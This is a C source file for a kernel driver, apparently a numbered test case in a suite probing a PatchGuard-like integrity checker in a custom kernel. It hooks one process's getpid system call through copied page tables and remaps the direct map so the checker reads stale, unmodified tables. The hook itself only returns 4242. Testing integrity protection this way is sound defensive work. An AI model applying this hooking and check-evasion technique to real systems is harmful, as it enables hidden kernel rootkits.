/* attack_a114_process_half (A114): a process's own kernel half, behind a direct-map view of its top table. Every process's
 * PML4 holds the kernel's kernel half, which PatchGuard compares entry by
 * entry with the kernel's own, reading both through the direct map. This
 * driver finds the process with the PID given (default 1) in the process
 * list, copies the tables under its PML4 entry for the kernel image down
 * to the service table's page (PDPT, directory, page table), with that
 * page replaced by a copy whose getpid entry returns 4242 (not global, so
 * other address spaces keep the original), and points the process's PML4
 * entry at the copied PDPT: its system calls read the copy, every other
 * address space the original. Then it makes the direct map show a copy of
 * the process's PML4 taken before the change, and of the page directory
 * holding the direct map's own 2 MiB entries (each region's 2 MiB entry
 * pointed at a page table of the driver's that maps those frames to the
 * copies, as A112 does), so the compare reads the entry as armed. The
 * kernel's own tables and the service table are untouched. Expected
 * (before the fix): no bug check, `svc` prints pid 4242. */
#include "attack_pg.h"
#include "attack_proc.h"

static uint8_t *page_of_pool(void)
{
	uint8_t *buf = pool_alloc(2 * A_PAGE, 0x74696C53);
	if (!buf)
		return NULL;
	uint8_t *p = (uint8_t *)(((uint64_t)buf + A_PAGE - 1) & ~(A_PAGE - 1));
	return (uint64_t)p >= KPP_DIRECT_MAP_BASE ? p : NULL;
}

static uint64_t pa_of(const void *p) { return (uint64_t)p - KPP_DIRECT_MAP_BASE; }
static uint64_t *va_of(uint64_t e) { return (uint64_t *)(KPP_DIRECT_MAP_BASE + (e & A_PTE_ADDR)); }

static uint64_t fake_getpid(void) { return 4242; }

/* A page table for the 2 MiB region of the direct map whose entry is pde:
 * the same frames, 4 KiB at a time, with the frames a and b (when inside)
 * replaced by ca and cb. */
static void fill(uint64_t *t, uint64_t pde, uint64_t a, uint64_t ca, uint64_t b, uint64_t cb)
{
	uint64_t region = pde & A_PTE_ADDR & ~0x1FFFFFull;
	for (uint64_t i = 0; i < 512; i++) {
		uint64_t pa = region + i * A_PAGE;
		pa = pa == a ? ca : pa == b ? cb : pa;
		t[i] = pa | A_PTE_P | A_PTE_W | (1ull << 5) | (1ull << 6) | (1ull << 8) | A_PTE_NX;
	}
}

status_t driver_entry(struct driver_object *drv)
{
	uint64_t pid = 1;
	if (drv->args[0] && !parse_u64(drv->args, &pid))
		return KPP_STATUS_INVALID_PARAMETER;
	struct thread *t = gs_current_thread();
	struct list_link *start = &t->process->link, *l = start;
	struct process *victim = NULL;
	int n = 0;
	do {
		if (is_process(l) && PROCESS_OF(l)->pid == pid)
			victim = PROCESS_OF(l);
		l = l->next;
	} while (l != start && !victim && ++n < 4096);
	uint64_t *table = a_find_service_table();
	uint8_t *pdpt_c = page_of_pool(), *pd_c = page_of_pool(), *pt_c = page_of_pool(), *page_c = page_of_pool();
	uint8_t *view = page_of_pool(), *dmt = page_of_pool();
	if (!victim || !victim->cr3 || !table || !pdpt_c || !pd_c || !pt_c || !page_c || !view || !dmt) {
		printk("attack_a114: process %lu, the service table or memory not found\n", pid);
		return KPP_STATUS_UNSUCCESSFUL;
	}
	uint64_t page = (uint64_t)table & ~(A_PAGE - 1);
	uint64_t i4 = page >> 39 & 511, i3 = page >> 30 & 511, i2 = page >> 21 & 511, i1 = page >> 12 & 511;
	uint64_t *pml4 = va_of(victim->cr3), *pdpt = va_of(pml4[i4]), *pd = va_of(pdpt[i3]);
	uint64_t *pt = va_of(pd[i2]);
	uint64_t *dmpde = a_pte_of((uint64_t)pml4, 1);
	if ((pdpt[i3] | pd[i2]) & (1ull << 7) || !dmpde || !(*dmpde & (1ull << 7))) {
		printk("attack_a114: a large page on the way\n");
		return KPP_STATUS_UNSUCCESSFUL;
	}
	memcpy(page_c, (const void *)page, A_PAGE);
	uint64_t fake = (uint64_t)&fake_getpid;
	memcpy(page_c + ((uint64_t)&table[KPP_SYS_GET_PID] - page), &fake, sizeof fake);
	memcpy(pt_c, pt, A_PAGE);
	memcpy(pd_c, pd, A_PAGE);
	memcpy(pdpt_c, pdpt, A_PAGE);
	((uint64_t *)pt_c)[i1] = (pt[i1] & ~A_PTE_ADDR & ~(1ull << 8)) | pa_of(page_c);
	((uint64_t *)pd_c)[i2] = (pd[i2] & ~A_PTE_ADDR) | pa_of(pt_c);
	((uint64_t *)pdpt_c)[i3] = (pdpt[i3] & ~A_PTE_ADDR) | pa_of(pd_c);
	/* The direct map's views: the PML4 as it was, and the page directory
	 * holding the direct map's own 2 MiB entries as it was (A112's way). */
	uint64_t *pd_dm = (uint64_t *)((uint64_t)dmpde & ~(A_PAGE - 1));
	uint64_t *pde2 = a_pte_of((uint64_t)pd_dm, 1);
	uint8_t *pd_view = page_of_pool(), *dmt2 = page_of_pool();
	if (!pd_view || !dmt2 || !pde2 || !(*pde2 & (1ull << 7)) || ((uint64_t)pde2 & ~(A_PAGE - 1)) != (uint64_t)pd_dm) {
		printk("attack_a114: the direct map's entries are not where expected\n");
		return KPP_STATUS_UNSUCCESSFUL;
	}
	uint64_t pf = a_cli(); /* no pass between the patch and its report */
	memcpy(view, pml4, A_PAGE);
	memcpy(pd_view, pd_dm, A_PAGE);
	fill((uint64_t *)dmt, *dmpde, pa_of(pml4), pa_of(view), pa_of(pd_dm), pa_of(pd_view));
	bool two = pde2 != dmpde;
	if (two)
		fill((uint64_t *)dmt2, *pde2, pa_of(pml4), pa_of(view), pa_of(pd_dm), pa_of(pd_view));
	pml4[i4] = (pml4[i4] & ~A_PTE_ADDR) | pa_of(pdpt_c);
	/* The page directory's own region last: its view is the copy after. */
	*dmpde = pa_of(dmt) | A_PTE_P | A_PTE_W | (1ull << 5) | A_PTE_NX;
	if (two)
		*pde2 = pa_of(dmt2) | A_PTE_P | A_PTE_W | (1ull << 5) | A_PTE_NX;
	uint64_t cr4;
	__asm__ volatile("mov %%cr4, %0" : "=r"(cr4));
	__asm__ volatile("mov %0, %%cr4" ::"r"(cr4 & ~(1ull << 7)) : "memory");
	__asm__ volatile("mov %0, %%cr4" ::"r"(cr4) : "memory");
	printk("attack_a114: process %lu runs on a kernel half of its own; the direct map shows its PML4 as it was\n", pid);
	a_patched("attack_a114");
	a_restore(pf);
	return KPP_STATUS_SUCCESS;
}
